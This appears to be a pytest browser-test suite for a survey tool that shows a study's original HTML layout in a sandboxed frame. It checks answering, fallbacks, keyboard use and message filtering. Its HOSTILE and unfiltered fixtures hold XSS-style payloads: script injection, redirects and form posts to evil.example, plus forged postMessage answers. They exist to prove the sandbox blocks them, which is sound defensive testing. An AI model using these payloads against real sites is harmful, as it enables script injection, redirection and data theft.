"""Participants answer on the page of an original study, which can do nothing else."""

from __future__ import annotations

import json
from typing import Any

import pytest

from layout_sites import layout_study, page
from visitor import DESKTOP, PHONE

pytestmark = pytest.mark.browser


def at_layout(visit, study, **window: Any):
    """Somebody before the original page, once it has said that it is there."""
    visitor = visit(study, **(window or DESKTOP))
    visitor.arrive()
    visitor.page.click("button[value=yes]")
    visitor.page.click("main button.primary")
    visitor.page.locator("#answers[data-layout=here]").wait_for()
    return visitor, visitor.page.frame_locator("#layout")


def choose(frame, number: int, side: str) -> None:
    """Click a label until it is chosen: when the page has only just been scrolled, the browser may
    send the click to where the frame was before."""
    label = frame.locator(f"label:has(input[name='{number}:meaning'])", has_text=side)
    for _ in range(20):
        label.click()
        if label.locator("input").is_checked():
            return
    raise AssertionError(f"{side} of {number} cannot be chosen")


@pytest.mark.parametrize(
    "window",
    [
        pytest.param(DESKTOP, id="desktop", marks=pytest.mark.slow),
        pytest.param(PHONE, id="phone"),
    ],
)
def test_answers_on_the_original_page_are_saved_like_all_others(visit, window):
    visitor, frame = at_layout(visit, layout_study(page()), **window)
    assert not visitor.page.locator("#body").is_visible()
    for number, side in enumerate("ABA"):
        choose(frame, number, side)
    visitor.page.locator("#count", has_text="3 of 3 answered").wait_for()
    visitor.wait_saved()
    visitor.next()
    visitor.page.wait_for_url("**/exit")
    visitor.page.click("main button.primary")
    stored = visitor.site.answers(visitor.participant)
    assert list(stored.values()) == ["a", "b", "a"]
    assert visitor.complaints == []


HIDING = (
    "<style>.panel { display: none } .panel input { position: absolute; opacity: 0; width: 0 }"
    " #item1 { visibility: hidden } #item2 { position: absolute; left: -9999px }"
    " .modal { display: none; position: fixed; z-index: 9; top: 0; left: 0; width: 100%;"
    " height: 100%; background: #000 }</style>"
    "<div class='modal'>Instructions</div><div style='display: none'><details>"
)


def test_fields_that_a_script_would_have_shown_can_be_seen_and_answered(visit):
    html = page(before=HIDING, after="</details></div><script>start()</script>")
    visitor, frame = at_layout(visit, layout_study(html))
    assert frame.locator("input:visible").count() == 6
    assert frame.locator("text=Instructions").is_visible()
    for number in range(3):
        choose(frame, number, "A")
    visitor.page.locator("#count", has_text="3 of 3 answered").wait_for()
    visitor.wait_saved()


def test_a_page_that_hides_a_field_all_the_same_gives_way_to_the_list(visit):
    hiding = "<style>#item1 { display: n\\6f ne }</style>"  # no rule that the rewriter knows
    visitor = visit(layout_study(page(before=hiding)))
    visitor.arrive()
    visitor.page.click("button[value=yes]")
    visitor.page.click("main button.primary")
    visitor.page.locator("#answers[data-layout=absent]").wait_for()
    assert visitor.page.locator(".task").first.is_visible()


@pytest.mark.slow
def test_what_is_missing_is_shown_in_the_frame(visit):
    visitor, frame = at_layout(visit, layout_study(page()))
    choose(frame, 0, "A")
    visitor.page.locator(".next").click(force=True)  # it says that it is not enabled yet
    lacking = frame.locator("[data-lacking]")
    lacking.first.wait_for()
    assert lacking.first.get_attribute("name") == "1:meaning"
    assert visitor.path == "/task/all"
    choose(frame, 1, "B")
    assert lacking.count() == 0


@pytest.mark.slow
def test_a_reload_shows_what_was_answered(visit):
    visitor, frame = at_layout(visit, layout_study(page()))
    choose(frame, 1, "B")
    visitor.wait_saved()
    visitor.page.reload()
    visitor.page.locator("#answers[data-layout=here]").wait_for()
    frame.locator("input[name='1:meaning'][value=B]:checked").wait_for()
    assert frame.locator("input:checked").count() == 1


@pytest.mark.slow
def test_the_keyboard_is_enough(visit):
    visitor, frame = at_layout(visit, layout_study(page()))
    keys = visitor.page.keyboard
    frame.locator("input").first.focus()
    for _ in range(3):
        keys.press("Space")
        keys.press("ArrowRight")
        keys.press("Tab")
    visitor.page.locator("#count", has_text="3 of 3 answered").wait_for()
    visitor.wait_saved()


@pytest.mark.slow
def test_without_scripts_the_usual_list_is_there(visit):
    visitor = visit(layout_study(page()), java_script_enabled=False)
    visitor.arrive()
    visitor.page.click("button[value=yes]")
    visitor.page.click("main button.primary")
    assert visitor.page.locator(".task").count() == 3
    assert not visitor.page.locator("#layout").is_visible()


@pytest.mark.slow
def test_a_frame_that_never_answers_gives_way_to_the_list(visit):
    visitor = visit(layout_study(page()))
    visitor.page.route("**/layout", lambda route: route.abort())
    visitor.page.clock.install()
    visitor.arrive()
    visitor.page.click("button[value=yes]")
    visitor.page.click("main button.primary")
    visitor.page.locator("#answers[data-layout=waiting]").wait_for()
    visitor.page.clock.run_for(10_000)
    visitor.page.locator("#answers[data-layout=absent]").wait_for()
    assert visitor.page.locator(".task").first.is_visible()


def test_a_frame_that_comes_late_is_shown_all_the_same(visit):
    held: list[Any] = []

    def hold(route: Any) -> None:
        held.append(route)

    visitor = visit(layout_study(page()))
    visitor.page.route("**/layout", hold)
    visitor.page.clock.install()
    visitor.arrive()
    visitor.page.click("button[value=yes]")
    visitor.page.click("main button.primary")
    visitor.page.locator("#answers[data-layout=waiting]").wait_for()
    visitor.page.clock.run_for(10_000)
    visitor.page.locator("#answers[data-layout=absent]").wait_for()
    assert not visitor.page.locator("#layout").is_visible()
    visitor.page.clock.resume()
    held[0].continue_()
    visitor.page.locator("#answers[data-layout=here]").wait_for()
    frame = visitor.page.frame_locator("#layout")
    choose(frame, 0, "A")
    visitor.wait_saved()


HOSTILE = (
    "<script>parent.document.title = 'taken'; top.location = 'https://evil.example/'</script>"
    "<script src='https://evil.example/x.js'></script>"
    "<meta http-equiv='refresh' content='0; url=https://evil.example/'>"
    "<base href='https://evil.example/'><link rel='stylesheet' href='https://evil.example/x.css'>"
    "<style>@import url(https://evil.example/y.css); p { background: url('//evil.example/z') }"
    "</style></iframe></body></html><iframe src='https://evil.example/'></iframe>"
    "<img src='https://evil.example/p.png' onerror='parent.postMessage(1, \"*\")'>"
    "<a href='javascript:alert(1)' id='bait'>Read the instructions</a>"
    "<object data='https://evil.example/'></object><svg onload='alert(1)'></svg>"
    "<p onclick='alert(1)' style='background: url(https://evil.example/s)'>Click here</p>"
    "<form action='https://evil.example/' method='post'><input name='meaning0' type='hidden' "
    "value='A'><input type='submit' value='Send'><button formaction='https://evil.example/'>Go"
    "</button></form><![if !mso]><!-- --!><script>alert(2)</script -->"
)


def test_a_hostile_layout_reaches_nothing(visit):
    texts = {"input": "</script></iframe><script>top.location='https://evil.example'</script>"}
    study = layout_study(
        page(before=HOSTILE, after=HOSTILE),
        texts=lambda number, name: f"{texts.get(name, name)} ${{input1}} {number}",
    )
    visitor, frame = at_layout(visit, study)
    title = visitor.page.title()
    frame.locator("#bait, p").first.click()
    frame.locator("text=Click here").first.click()
    choose(frame, 0, "B")
    visitor.wait_saved()
    assert visitor.page.title() == title
    assert visitor.path == "/task/all"
    assert "</script></iframe><script>" in frame.locator("strong").first.inner_text()
    assert frame.locator("script").count() == 1  # ours
    assert frame.locator("a, form, iframe, object, svg, meta[http-equiv], base, link").count() == 0
    assert visitor.complaints == []


@pytest.mark.slow
def test_even_an_unfiltered_page_is_kept_in_its_frame(visit, monkeypatch):
    """What the sandbox and its policy hold back, should the rewriter ever miss something."""
    raw = (
        "<script>try { parent.document.title = 'taken' } catch { } "
        "parent.postMessage({rejudge: 'answer', field: '0:meaning', value: 'a'}, '*')</script>"
        "<img src='https://evil.example/p.png' onerror='window.ran = 1'>"
        "<form action='https://evil.example/' method='post'><button id='send'>Send</button></form>"
        "<a href='https://evil.example/' target='_top' id='top'>Out</a>"
        "<a href='https://evil.example/' id='away'>Away</a>"
    )
    study = layout_study(page(after="<!-- unfiltered -->"))
    monkeypatch.setattr(
        "rejudge.web.layout_page.rewrite_layout", lambda _layout, _filling: raw + BRIDGED
    )
    visitor, frame = at_layout(visit, study)
    sent: list[str] = []
    visitor.page.context.route("https://**", lambda route: sent.append(route.request.url))
    visitor.page.reload()
    visitor.page.locator("#answers[data-layout=here]").wait_for()
    title = visitor.page.title()
    frame.locator("#send").click()
    frame.locator("#top").click()
    assert visitor.page.title() == title
    assert visitor.path == "/task/all"
    inner = visitor.page.frames[1]
    assert inner.evaluate("window.ran") is None
    assert inner.evaluate("self.origin") == "null"
    assert inner.evaluate("(() => { try { return parent.document.title } catch { return 1 } })()")
    assert inner.evaluate("(() => { try { return document.cookie } catch { return 'no' } })()") in {
        "", "no",
    }  # fmt: skip
    assert visitor.page.locator("#count").inner_text() == "0 of 3 answered"
    frame.locator("#away").click()
    visitor.page.wait_for_timeout(100)
    assert sent == []  # blocked before they leave the browser


BRIDGED = "".join(
    f'<input type="radio" name="{n}:meaning" value="{side}">' for n in range(3) for side in "ab"
)


STRANGE = [
    {"rejudge": "answer", "field": "0:meaning", "value": "c"},
    {"rejudge": "answer", "field": "stamp", "value": "a"},
    {"rejudge": "answer", "field": "csrf", "value": "a"},
    {"rejudge": "answer", "field": ["0:meaning"], "value": "a"},
    {"rejudge": "answer", "field": "0:meaning", "value": "a" * 101},
    {"rejudge": "height", "height": 1e12},
    {"rejudge": "height", "height": "<b>"},
    {"rejudge": "ready", "fields": 7},
    {"rejudge": "constructor"},
    None,
    "ready",
]


@pytest.mark.slow
def test_other_messages_of_the_frame_change_nothing(visit):
    visitor, _ = at_layout(visit, layout_study(page()))
    visitor.page.locator("#layout[style]").wait_for()
    form = "new URLSearchParams(new FormData(document.getElementById('answers'))).toString()"
    height = "document.getElementById('layout').style.height"
    before = visitor.page.evaluate(f"[{form}, {height}]")
    for message in STRANGE:
        visitor.page.frames[1].evaluate(
            f"parent.postMessage({json.dumps(message)}, '*'); new Promise((r) => setTimeout(r, 20))"
        )
        assert visitor.page.evaluate(f"[{form}, {height}]") == before, message
    assert visitor.complaints == []


@pytest.mark.slow
def test_messages_from_elsewhere_are_not_heard(visit):
    visitor, _ = at_layout(visit, layout_study(page()))
    visitor.page.evaluate(
        "postMessage({rejudge: 'answer', field: '0:meaning', value: 'a'}, '*');"
        "new Promise((r) => setTimeout(r, 50))"
    )
    assert visitor.page.locator("#count").inner_text() == "0 of 3 answered"


@pytest.mark.slow
def test_a_batch_that_is_shorter_than_the_layout_hides_the_rest(visit):
    visitor, frame = at_layout(visit, layout_study(page(range(5))))
    assert frame.locator(".panel").count() == 3
    assert frame.locator("h3").count() == 1
    assert visitor.complaints == []


@pytest.mark.slow
def test_a_layout_of_one_item_is_repeated(visit):
    visitor, frame = at_layout(visit, layout_study(page([7])))
    assert frame.locator(".panel").count() == 3
    for number, side in enumerate("BBA"):
        choose(frame, number, side)
    visitor.page.locator("#count", has_text="3 of 3 answered").wait_for()
    visitor.wait_saved()


LISTS = (
    "<p>${src}</p><p>${text}</p><select name='fluency'><option>1</option><option>2</option>"
    "<option>3</option><option>4</option><option value='5'>five</option></select>"
    "<crowd-slider name='ease' min='0' max='100'></crowd-slider>"
    "<textarea name='remarks'>x</textarea>"
)


@pytest.mark.slow
def test_lists_and_sliders_answer_too(visit):
    from participants import RATING, SLIDER

    fields = [{"name": "fluency", "question": "fluency"}, {"name": "ease", "question": "ease"}]
    described = {"outputs": ["text"], "input": "src", "numbered": False, "fields": fields}
    visitor, frame = at_layout(visit, layout_study(LISTS, RATING, SLIDER, layout=described))
    assert frame.locator("textarea:visible").count() == 0
    for number in range(3):
        frame.locator(f"select[name='{number}:fluency']").select_option("five")
        frame.locator(f"input[name='{number}:ease']").fill("30")
    visitor.wait_saved()
    visitor.next()
    visitor.page.wait_for_url("**/exit")
    visitor.page.click("main button.primary")
    stored = visitor.site.answers(visitor.participant)
    assert {(q, raw) for (_, q), raw in stored.items()} == {("fluency", "5"), ("ease", "30")}
    assert len(stored) == 6
